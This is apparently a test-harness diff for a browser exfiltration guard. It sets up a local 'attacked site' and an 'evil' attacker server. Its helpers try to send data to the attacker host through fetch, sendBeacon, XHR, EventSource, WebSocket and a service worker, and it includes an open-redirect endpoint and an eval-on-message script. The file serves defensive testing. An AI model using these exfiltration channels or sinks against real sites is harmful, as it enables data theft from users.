@@ -1,0 +1,189 @@
+// The attacked site, and the attacker who waits for what it sends.
+//
+// A script's document runs by itself, with no driver in it: a driver's scripts run as if the user had just acted.
+import { createSocket } from "node:dgram";
+import { once } from "node:events";
+import { readFileSync } from "node:fs";
+import { createServer } from "node:http";
+
+const GUARD = readFileSync(new URL("../../../pkg/guard.js", import.meta.url));
+
+const HTML = "text/html; charset=utf-8";
+const SCRIPT = "text/javascript; charset=utf-8";
+const POLICY = { connect: ["'self'"], links: { origins: [] } };
+
+/** What the site has beside the documents: nothing here carries a policy of its own. */
+const FILES = {
+  "/plain": [HTML, "<!doctype html><title>plain</title><p id=p>plain"],
+  "/sends.js": [SCRIPT, `const to = new URL(location).searchParams.get("to"); fetch(to, { mode: "no-cors" }).catch(() => {});`],
+  "/evaluates.js": [SCRIPT, `onmessage = ({ data }) => eval(data);`],
+  "/frame.xml": ["text/xml", `<iframe xmlns="http://www.w3.org/1999/xhtml"/>`],
+  "/idle.js": [SCRIPT, `onmessage = ({ data }) => postMessage(data);`],
+};
+
+/** What a script gets beside `evil` and `own`; it is written into the document. */
+function help(evil, own) {
+  const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
+  const { body } = document;
+  return {
+    evil,
+    own,
+    socket: evil.replace("http", "ws"),
+    port: new URL(evil).port,
+    /** What a worker or a frame of its own would run. */
+    sends: `fetch("${evil}", { mode: "no-cors" }).catch(() => {})`,
+    sleep,
+    /** An address of the site that redirects to the attacker. */
+    via: (path = "/x", status = 307) => `${own}/to?status=${status}&url=${encodeURIComponent(evil + path)}`,
+    blob: (text, type = "text/html") => URL.createObjectURL(new Blob([text], { type })),
+    add: (name, properties = {}, parent = body) => parent.appendChild(Object.assign(document.createElement(name), properties)),
+    script: (text) => `<script>${text}</` + "script>",
+    /** Whatever there is to call, plainly: nothing here depends on a built-in that a script may have replaced. */
+    send(url = evil) {
+      try { fetch(url + "/fetch", { mode: "no-cors" }).catch(() => {}); } catch {}
+      try { navigator.sendBeacon(url + "/beacon", "x"); } catch {}
+      try { const x = new XMLHttpRequest(); x.open("GET", url + "/xhr"); x.send(); } catch {}
+      try { new EventSource(url + "/events"); } catch {}
+      try { new WebSocket(url + "/socket"); } catch {}
+    },
+  };
+}
+
+const page = ({ source, strength, id, evil, own, head }) => `<!doctype html><html><head><meta charset="utf-8"><title>page</title>
+<link rel="icon" href="data:,">${head}</head><body>
+<script>window.attack = ${`${source}`.replaceAll("</script", "<\\/script")};</script>
+<script type="module">
+  import { installGuard } from "/guard.js";
+  const { attack, fetch } = window;
+  const init = { __proto__: null, mode: "no-cors", keepalive: true };
+  const say = (what) => void fetch("${own}/said/${id}/" + what, init);
+  const tools = (${help})("${evil}", "${own}");
+  const { encodeURIComponent } = window;
+  ${strength === "off" ? "" : `installGuard(${JSON.stringify(POLICY)}, { strength: "${strength}" });`}
+  say("ran");
+  try {
+    await attack(tools);
+    say("done");
+  } catch (error) {
+    say("threw-" + encodeURIComponent(error));
+  }
+</script></body></html>`;
+
+/** One running of one script: its document, its attacker, and what came of it. */
+class Run {
+  requests = [];
+  connections = 0;
+  datagrams = 0;
+  said = [];
+  #servers = [];
+
+  constructor(script, strength, id) {
+    Object.assign(this, { script, strength, id });
+  }
+
+  async listen() {
+    const server = createServer((request, response) => this.#answer(request, response));
+    server.on("connection", () => this.connections++);
+    server.on("upgrade", (request, socket) => {
+      this.requests.push(`${request.method} ${request.url}`);
+      socket.destroy();
+    });
+    server.on("clientError", (error, socket) => socket.destroy());
+    server.listen(0, "127.0.0.1");
+    await once(server, "listening");
+    const { port } = server.address();
+    this.evil = `http://127.0.0.1:${port}`;
+    this.#servers.push(() => (server.closeAllConnections(), server.close()));
+    if (this.script.hit === "datagram") {
+      const socket = createSocket("udp4", () => this.datagrams++);
+      socket.bind(port, "127.0.0.1");
+      await once(socket, "listening");
+      this.#servers.push(() => socket.close());
+    }
+  }
+
+  stop() {
+    for (const stop of this.#servers) stop();
+  }
+
+  /** What arrived: a request, or where it is told apart, only a connection or a datagram; undefined for nothing. */
+  get reached() {
+    if (this.requests.length > 0) return "request";
+    if (this.datagrams > 0) return "datagram";
+    return this.connections > 0 ? "connection" : undefined;
+  }
+
+  get through() {
+    return this.reached !== undefined && (this.reached === "request" || this.reached === this.script.hit);
+  }
+
+  get ran() {
+    return this.said.includes("ran");
+  }
+
+  get over() {
+    return this.said.some((word) => word !== "ran");
+  }
+
+  #answer({ method, url }, response) {
+    this.requests.push(`${method} ${url}`);
+    const headers = { "Access-Control-Allow-Origin": "*", "Access-Control-Allow-Headers": "*", "Cache-Control": "no-store" };
+    const { pathname } = new URL(url, "http://evil");
+    const type = pathname.endsWith(".js") ? SCRIPT : pathname.endsWith(".css") ? "text/css" : HTML;
+    response.writeHead(200, { ...headers, "Content-Type": type }).end(type === HTML ? "<p>his" : "");
+  }
+}
+
+export class Site {
+  #server;
+  #runs = [];
+
+  static async start() {
+    const site = new Site();
+    site.#server = createServer((request, response) => site.#answer(request, response));
+    site.#server.listen(0, "127.0.0.1");
+    await once(site.#server, "listening");
+    site.origin = `http://127.0.0.1:${site.#server.address().port}`;
+    return site;
+  }
+
+  async run(script, strength) {
+    const run = new Run(script, strength, this.#runs.length);
+    this.#runs.push(run);
+    await run.listen();
+    run.url = `${this.origin}/run/${run.id}/`;
+    return run;
+  }
+
+  stop() {
+    for (const run of this.#runs) run.stop();
+    this.#server.closeAllConnections();
+    this.#server.close();
+  }
+
+  #answer(request, response) {
+    const { pathname, searchParams } = new URL(request.url, "http://site");
+    const send = (type, body, headers) =>
+      response.writeHead(200, { "Content-Type": type, "Cache-Control": "no-store", ...headers }).end(body);
+    const [, place, id, rest] = pathname.split("/");
+    if (pathname === "/guard.js") {
+      send(SCRIPT, GUARD, { "Cache-Control": "max-age=600" });
+    } else if (pathname === "/to") {
+      const headers = { Location: searchParams.get("url"), "Cache-Control": "no-store", "Access-Control-Allow-Origin": "*" };
+      response.writeHead(Number(searchParams.get("status")), headers).end();
+    } else if (pathname === "/slow") {
+      setTimeout(() => send(HTML, "<!doctype html><title>slow</title>"), 2_000);
+    } else if (place === "said") {
+      this.#runs[id].said.push(decodeURIComponent(rest));
+      response.writeHead(204).end();
+    } else if (place === "run" && rest === "") {
+      const { script, strength, evil } = this.#runs[id];
+      send(HTML, page({ source: script.source, head: script.head ?? "", strength, id, evil, own: this.origin }));
+    } else if (place === "run" && rest === "sw.js") {
+      send(SCRIPT, `addEventListener("install", () => skipWaiting()); fetch("${this.#runs[id].evil}/worker", { mode: "no-cors" });`);
+    } else {
+      const [type, body] = FILES[pathname] ?? ["text/plain", request.method];
+      send(type, body);
+    }
+  }
+}
